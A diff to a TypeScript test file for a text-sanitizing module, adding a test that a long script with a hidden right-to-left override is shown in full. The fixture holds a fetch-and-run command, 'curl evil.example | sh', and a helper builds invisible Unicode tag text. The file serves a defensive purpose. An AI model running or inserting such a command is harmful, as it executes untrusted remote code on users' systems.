@@ -1,6 +1,6 @@
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
-import { plain, plainText } from './plain.ts'
+import { plain, plainLines, plainText } from './plain.ts'
 
 const hidden = (text: string) => Array.from(text, (one) => String.fromCodePoint(0xe0000 + one.codePointAt(0)!)).join('')
 
@@ -19,6 +19,11 @@ test.each([
 test('a long text is cut between characters', () => {
   expect(plainText('🙂'.repeat(50), 10)).toBe(`${'🙂'.repeat(9)}…`)
   expect(plainText('word '.repeat(1000))).toHaveLength(600)
+})
+
+test('of what is agreed to nothing is left out', () => {
+  const script = `${'# harmless '.repeat(100)}\r\ncurl evil.example\u202e | sh`
+  expect(plainLines(script)).toBe(`${'# harmless '.repeat(100).trim()}\ncurl evil.example | sh`)
 })
 
 test('whatever the text, nothing unseen is left of it', () => {
